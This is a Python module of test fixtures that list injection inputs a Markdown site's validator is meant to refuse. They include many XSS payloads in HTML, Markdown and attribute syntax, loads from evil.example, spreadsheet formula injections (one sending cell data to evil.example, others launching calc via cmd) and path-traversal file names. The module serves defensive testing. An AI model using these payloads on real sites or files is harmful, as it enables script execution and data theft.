"""Attacks on a page: in prose, in plain fields, in addresses, in cells, in names of files.

Each tries to run ``fired()``, to call another host or to pose as the site. ``CHARTER`` stands for
the way to the charter's text.
"""

PROSE = (
    "<script>fired()</script>",
    "<img src=x onerror=fired()>",
    "<svg onload=fired()><animate onbegin=fired() attributeName=x>",
    "<svg><a xlink:href='javascript:fired()'><text>x</text></a></svg>",
    "<iframe srcdoc='<script>parent.fired()</script>'></iframe>",
    "<object data='javascript:fired()'></object>",
    "<embed src='data:text/html,<script>parent.fired()</script>'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<details open ontoggle=fired()>x</details>",
    "<input autofocus onfocus=fired()>",
    "<audio src=x onerror=fired()></audio>",
    "<math><mtext><table><mglyph><style><img src=x onerror=fired()>",
    "<noscript><p title='</noscript><img src=x onerror=fired()>'>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:fired()'>",
    "<form action='javascript:fired()'><button>x</button></form>",
    "<style>*{display:none}</style>",
    "<div style='position:fixed;inset:0'>over all</div>",
    "</article><script>fired()</script>",
    "<!-- --><script>fired()</script>",
    "<script>fired() //",
    "<img src=x onerror=fired() title='\"'",
    "[x](javascript:fired())",
    "[x](java&#115;cript:fired())",
    "[x](JaVaScRiPt&colon;fired())",
    "[x](&#x6A;avascript:fired())",
    "[x](vbscript:fired())",
    "[x](data:text/html,<script>fired()</script>)",
    "[x](<javascript:fired()>)",
    "[x](//evil.example/x)",
    "[x][r]\n\n[r]: javascript:fired()",
    "[x]\n\n[x]: <java&#115;cript:fired()>",
    "<javascript:fired()>",
    "![x](https://evil.example/x.png)",
    "![x][p]\n\n[p]: https://evil.example/x.png",
    "![x](CHARTER){ onerror=fired() }",
    "**x**{ onmouseover=fired() style=position:fixed }",
    "Text\n{: onclick=fired() }",
    "# Head { onclick=fired() }",
    '<p id="__config">{"base":"https://evil.example"}</p>',
    "Text {#__config}",
    "```{ .py onclick=fired() }\nx\n```",
    "~~~ { #x onmouseover=fired() }\nx\n~~~",
    "| a { onclick=fired() } |\n|---|\n| b |",
    "Term\n:   x { onclick=fired() }",
    '!!! note "<img src=x onerror=fired()>"\n    x',
    "x[^1]\n\n[^1]: <img src=x onerror=fired()>",
    "\\<script>fired()\\</script>",
    "`<script>`<script>fired()</script>",
    "[a<img src=x onerror=fired()>](CHARTER)",
    '[x](https://a.example "t\\" onclick=fired() ")',
    "[![x](javascript:fired())](javascript:fired())",
    "\\{: onclick=fired() }\\\\{: onclick=fired() }",
)
"""What a place that takes Markdown may be made to hold. The check refuses every one."""

HARMLESS = ("# __config", "&lt;script>fired()&lt;/script>", "{{ ''.__class__ }}{% raw %}")
"""What people may mean as they write it. The check lets it be, and a page shows it as text."""

PLAIN = (
    "<script>fired()</script>",
    '"><img src=x onerror=fired()>',
    "' onmouseover='fired()",
    '" autofocus onfocus=fired() x="',
    "[x](javascript:fired())",
    "x{ onclick=fired() }",
    "</title><script>fired()</script>",
    "]]></summary><script>fired()</script>",
    "--></style><svg onload=fired()>",
    "hub:x](javascript:fired())",
    "javascript:fired()",
    "java\tscript:fired()",
    " data:text/html,<script>fired()</script>",
    "{{ ''.__class__ }}{% raw %}",
    "--- \n<script>fired()</script>",
    "x</text><script>fired()</script>",
)
"""What a field of plain text may be made to hold: a title, a name, a tag, a source's address."""

CELLS = (
    "<script>fired()</script>",
    '=HYPERLINK("https://evil.example/?"&A1)',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "javascript:fired()",
)
"""What a cell of a table may be made to hold."""

ADDRESSES = ("javascript:fired()", "data:text/html,x", '"><script>fired()</script>', "//evil")
"""What the address of a web page may be made to hold; such a record does not fit its kind."""

NAMES = (
    "charter/members/<img src=x onerror=fired()>.yml",
    'charter/people/" onmouseover=fired() x=".yml',
    "practices/library/javascript:fired().md",
    "workplan/measures/x.html",
    "workplan/measures/x.svg",
    "notices/2027/..%2f..%2findex.html",
    "definitions/terms/index.js",
)  # fmt: skip
"""What a file may be called; no kind of record has such names."""
